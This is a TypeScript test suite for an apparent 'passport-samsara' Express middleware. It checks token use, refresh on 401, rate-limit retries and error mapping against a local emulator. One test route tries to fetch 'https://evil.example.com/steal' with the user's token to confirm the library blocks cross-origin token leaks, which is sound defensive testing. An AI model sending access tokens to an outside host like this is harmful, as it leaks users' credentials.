import { expect } from 'chai';
import express from 'express';
import session from 'express-session';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import request from 'supertest';
import {
  MemoryTokenStore,
  OAuthClient,
  StoreUnavailableError,
  TokenManager,
  samsara,
  samsaraErrorHandler,
  type TokenStore,
} from 'passport-samsara';
import { startSamsaraEmulator, type SamsaraEmulator } from 'passport-samsara/testing';
import { clientOf, seedGrant } from './support/grants.js';

describe('Express: req.samsara and the error handler', () => {
  let emulator: SamsaraEmulator;
  let store: MemoryTokenStore;
  let tokens: TokenManager;
  let server: Server;
  let url: string;

  /** An app whose "session" is a header naming the organization, and an API of its own. */
  async function startApp(tokenStore: TokenStore, maxRateLimitWait = 5_000): Promise<void> {
    tokens = new TokenManager({
      store: tokenStore,
      client: new OAuthClient({ ...clientOf(emulator), timeout: 1_000 }),
    });
    const app = express();
    app.use(session({ secret: 'test', resave: false, saveUninitialized: true }));
    app.use(samsara({ tokens, key: (req) => req.get('x-org') ?? undefined, maxRateLimitWait }));
    app.get('/vehicles', async (req, res, next) => {
      try {
        const response = await req.samsara.fetch('/fleet/vehicles?limit=3');
        res.status(response.status).json(await response.json());
      } catch (err) {
        next(err);
      }
    });
    app.get('/token', async (req, res, next) => {
      try {
        res.json({ length: (await req.samsara.accessToken()).length });
      } catch (err) {
        next(err);
      }
    });
    app.get('/elsewhere', async (req, res) => {
      try {
        await req.samsara.fetch('https://evil.example.com/steal');
        res.sendStatus(200);
      } catch (err) {
        res.status(400).json({ message: (err as Error).message });
      }
    });
    app.use(samsaraErrorHandler({ signInPath: '/auth/samsara' }));
    server = await new Promise((resolve) => {
      const s = app.listen(0, '127.0.0.1', () => resolve(s));
    });
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  beforeEach(async () => {
    emulator = await startSamsaraEmulator();
    store = new MemoryTokenStore();
  });
  afterEach(async () => {
    server?.closeAllConnections();
    await new Promise((r) => server?.close(r));
    await emulator.stop();
  });

  it('calls the API with the Bearer token', async () => {
    await startApp(store);
    await seedGrant(emulator, store, '1001', 3600_000);
    const res = await request(url).get('/vehicles').set('x-org', '1001').expect(200);
    expect(res.body.data).to.have.length(3);
    expect(res.body.pagination.hasNextPage).to.equal(true);
    expect(emulator.counters.apiCalls).to.equal(1);
  });

  it('on a 401 refreshes once and retries once', async () => {
    await startApp(store);
    const old = await seedGrant(emulator, store, '1001', 3600_000);
    emulator.expireAccessTokens('1001');
    const res = await request(url).get('/vehicles').set('x-org', '1001').expect(200);
    expect(res.body.data).to.have.length(3);
    expect(emulator.counters.grants.refresh_token).to.equal(1);
    expect(emulator.counters.apiCalls).to.equal(2);
    expect((await store.get('1001'))!.accessToken).to.not.equal(old.accessToken);
  });

  it('on a 429 waits the fractional Retry-After and retries', async () => {
    await startApp(store);
    await seedGrant(emulator, store, '1001', 3600_000);
    emulator.configure({ rateLimit: 2 });
    const started = Date.now();
    const results = await Promise.all([1, 2, 3].map(() => request(url).get('/vehicles').set('x-org', '1001')));
    expect(results.map((r) => r.status)).to.deep.equal([200, 200, 200]);
    expect(emulator.counters.rateLimited).to.be.at.least(1);
    expect(Date.now() - started).to.be.below(3_000);
  });

  it('gives up on 429s past the bound with RateLimitedError -> 429 and Retry-After', async () => {
    await startApp(store, 50);
    await seedGrant(emulator, store, '1001', 3600_000);
    emulator.configure({ rateLimit: 1 });
    const results = await Promise.all([1, 2].map(() => request(url).get('/vehicles').set('x-org', '1001').set('accept', 'application/json')));
    const limited = results.find((r) => r.status === 429);
    expect(limited, 'one request was limited').to.not.equal(undefined);
    expect(limited!.body.error.code).to.equal('SAMSARA_RATE_LIMITED');
    expect(Number(limited!.headers['retry-after'])).to.be.at.least(1);
  });

  it('keeps a floor under Retry-After: 0, so a 429 storm cannot become a busy loop', async () => {
    await startApp(store, 200);
    await seedGrant(emulator, store, '1001', 3600_000);
    emulator.injectFault('api', { type: 'status', status: 429, body: '{"message":"slow down"}', contentType: 'application/json', headers: { 'retry-after': '0' } }, 1_000);
    const res = await request(url).get('/vehicles').set('x-org', '1001').set('accept', 'application/json').expect(429);
    expect(res.body.error.code).to.equal('SAMSARA_RATE_LIMITED');
    expect(emulator.counters.apiCalls).to.be.within(2, 5);
  });

  it('maps an API that cannot be reached to SAMSARA_UNREACHABLE (502) with a fixed message', async () => {
    await startApp(store);
    await seedGrant(emulator, store, '1001', 3600_000);
    emulator.injectFault('api', { type: 'drop' });
    const res = await request(url).get('/vehicles').set('x-org', '1001').set('accept', 'application/json').expect(502);
    expect(res.body.error).to.deep.equal({ code: 'SAMSARA_UNREACHABLE', message: 'Samsara answered unexpectedly; try again later.' });
  });

  it('refuses to send the token to another origin', async () => {
    await startApp(store);
    await seedGrant(emulator, store, '1001', 3600_000);
    const res = await request(url).get('/elsewhere').set('x-org', '1001').expect(400);
    expect(res.body.message).to.match(/only calls Samsara's API/);
  });

  it('maps ReauthorizationRequiredError to a sign-in redirect for browsers and 401 JSON for API clients', async () => {
    await startApp(store);
    const browser = await request(url).get('/token').set('x-org', '1001').set('accept', 'text/html').expect(303);
    expect(browser.headers.location).to.equal('/auth/samsara');
    const api = await request(url).get('/token').set('x-org', '1001').set('accept', 'application/json').expect(401);
    expect(api.body.error.code).to.equal('SAMSARA_REAUTHORIZE');
    expect(api.headers['www-authenticate']).to.match(/Bearer/);
    const anonymous = await request(url).get('/token').set('accept', 'application/json').expect(401);
    expect(anonymous.body.error.code).to.equal('SAMSARA_REAUTHORIZE');
  });

  it('maps StoreUnavailableError to 503 with Retry-After', async () => {
    const broken: TokenStore = Object.assign(Object.create(store) as TokenStore, {
      get: async () => {
        throw new StoreUnavailableError('Redis did not answer within 500 ms.', { retryAfter: 2 });
      },
    });
    await startApp(broken);
    const res = await request(url).get('/token').set('x-org', '1001').set('accept', 'application/json').expect(503);
    expect(res.headers['retry-after']).to.equal('2');
    expect(res.body.error.code).to.equal('SAMSARA_STORE_UNAVAILABLE');
  });
});
